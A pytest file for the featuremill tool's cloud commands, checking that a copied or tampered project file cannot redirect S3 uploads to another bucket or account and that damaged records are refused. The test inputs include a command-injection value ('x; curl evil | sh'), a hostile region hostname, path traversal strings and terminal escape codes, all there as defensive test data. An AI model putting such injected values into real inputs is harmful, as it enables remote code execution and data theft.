"""A folder's file may be somebody else's: it names a stack, but not where data goes."""

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from featuremill.cloud.aws.client import Aws
from featuremill.cloud.jobs import job as jobs
from featuremill.cloud.jobs.job import Job, last_job
from featuremill.cloud.stack import project_file
from featuremill.errors import ConfigError
from tests.cloud.stack import BUCKET, deployed, describe, described, featuremill, folder

__all__ = ["folder"]

THEIRS = "theirs"


@pytest.fixture
def photos(folder: Path) -> Path:
    (folder / "photos").mkdir()
    (folder / "photos" / "0.jpg").write_bytes(b"private")
    return folder / "photos"


def held(aws: Aws, bucket: str) -> list[str]:
    found = aws.client("s3").list_objects_v2(Bucket=bucket, Prefix="input/")
    return [each["Key"] for each in found.get("Contents", ())]


def test_a_copied_file_does_not_redirect_an_upload(
    aws: Aws, endpoint: str, photos: Path, folder: Path
) -> None:
    known = deployed(aws)
    aws.client("s3").create_bucket(
        Bucket=THEIRS, CreateBucketConfiguration={"LocationConstraint": aws.region}
    )
    project_file.save(replace(known, outputs={**known.outputs, "Bucket": THEIRS}), folder)
    done = featuremill("cloud", "upload", "photos", "--endpoint-url", endpoint)
    assert done.exit_code == 0, done.output
    assert held(aws, THEIRS) == []
    assert held(aws, BUCKET) == ["input/0.jpg"]


@pytest.mark.parametrize(
    "command",
    [
        "upload photos",
        "fetch",
        "submit",
        "logs",
        "status",
        "cost",
        "stop --yes",
        "server up",
        "cluster up",
        "cluster down",
        "notebook",
        "destroy --yes",
        "deploy --yes",
        "up photos --throughput 9 --yes",
        "estimate --images 9 --probe",
    ],
)
def test_a_file_of_another_account_is_refused(
    aws: Aws, endpoint: str, photos: Path, folder: Path, command: str
) -> None:
    known = deployed(aws)
    project_file.save(replace(known, account="999999999999"), folder)
    refused = featuremill("cloud", *command.split(), "--endpoint-url", endpoint)
    assert refused.exit_code == 2, refused.output
    assert "is in account 999999999999, but you are signed in to account 1234567890" in (
        refused.stderr
    )
    assert "--profile" in refused.stderr
    assert held(aws, BUCKET) == []


def test_a_stack_that_is_not_there_is_named(aws: Aws, endpoint: str, photos: Path) -> None:
    refused = featuremill("cloud", "upload", "photos", "--endpoint-url", endpoint)
    assert refused.exit_code == 1
    assert "there is no stack featuremill in account 123456789012, eu-west-1" in refused.stderr
    assert "cloud deploy" in refused.stderr


def test_every_call_of_s3_says_whose_the_bucket_must_be(endpoint: str, aws: Aws) -> None:
    known = deployed(aws)
    sent: list[Mapping[str, str]] = []
    ours = replace(aws, owner=known.account)
    s3 = ours.client("s3")
    s3.meta.events.register("before-call", lambda params, **_: sent.append(params["headers"]))
    s3.put_object(Bucket=BUCKET, Key="input/0.jpg", Body=b"x")
    s3.get_object(Bucket=BUCKET, Key="input/0.jpg")["Body"].close()
    s3.copy_object(
        Bucket=BUCKET, Key="input/1.jpg", CopySource={"Bucket": BUCKET, "Key": "input/0.jpg"}
    )
    list(ours.pages("s3", "list_objects_v2", Bucket=BUCKET))
    assert [each["x-amz-expected-bucket-owner"] for each in sent] == [known.account] * 4
    assert sent[2]["x-amz-source-expected-bucket-owner"] == known.account


def test_a_job_of_the_file_is_looked_for_in_the_stacks_own_bucket(folder: Path) -> None:
    job = Job(jobs.SERVERLESS, "00f", "00a", "main", "s3://theirs/x", "2026-11-21T14:00:00Z")
    assert last_job(job.kept_in(described())).destination == f"s3://{BUCKET}/results/main"


@pytest.mark.parametrize(
    ("name", "value"),
    [("where", "../../00f"), ("id", "00f/../../x"), ("id", "\x1b[2J"), ("submitted", "soon")],
)
def test_a_job_that_cannot_be_one_is_refused(folder: Path, name: str, value: str) -> None:
    job = Job(jobs.SERVERLESS, "00f", "00a", "main", "s3://x/y", "2026-11-21T14:00:00Z")
    with pytest.raises(ConfigError, match="damaged"):
        last_job(replace(job, **{name: value}).kept_in(described()))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("stack", "x; curl evil | sh"),
        ("stack", ""),
        ("region", "eu-west-1.evil.example/"),
        ("account", "12"),
        ("account", 123456789012),
        ("outputs", {"Bucket": ["a"]}),
    ],
)
def test_a_file_that_deploy_cannot_have_written_is_refused(
    folder: Path, name: str, value: Any
) -> None:
    project_file.save(replace(described(), **{name: value}), folder)
    refused = featuremill("cloud", "status")
    assert refused.exit_code == 2
    assert "featuremill-cloud.json is damaged" in refused.stderr


def test_a_dry_run_shows_that_the_stack_is_looked_at_first(folder: Path, photos: Path) -> None:
    shown = featuremill("cloud", "upload", "photos", "--dry-run").stdout
    assert shown.index("cloudformation.describe_stacks") < shown.index("s3.put_object")


def test_a_dry_run_obeys_nothing_of_the_file(folder: Path, photos: Path) -> None:
    project_file.save(replace(described(), outputs={"Bucket": "x\x1b[2J"}), folder)
    shown = featuremill("cloud", "upload", "photos", "--dry-run").stdout
    assert "s3://x%1B[2J/input" in shown
    assert "\x1b" not in shown


def test_outputs_that_changed_since_are_taken_as_they_are(
    aws: Aws, endpoint: str, photos: Path, folder: Path
) -> None:
    known = deployed(aws)
    project_file.save(known, folder)
    describe(aws, {**known.outputs, "Bucket": "elsewhere"})
    aws.client("s3").create_bucket(
        Bucket="elsewhere", CreateBucketConfiguration={"LocationConstraint": aws.region}
    )
    done = featuremill("cloud", "upload", "photos", "--endpoint-url", endpoint)
    assert done.exit_code == 0, done.output
    assert held(aws, "elsewhere") == ["input/0.jpg"]
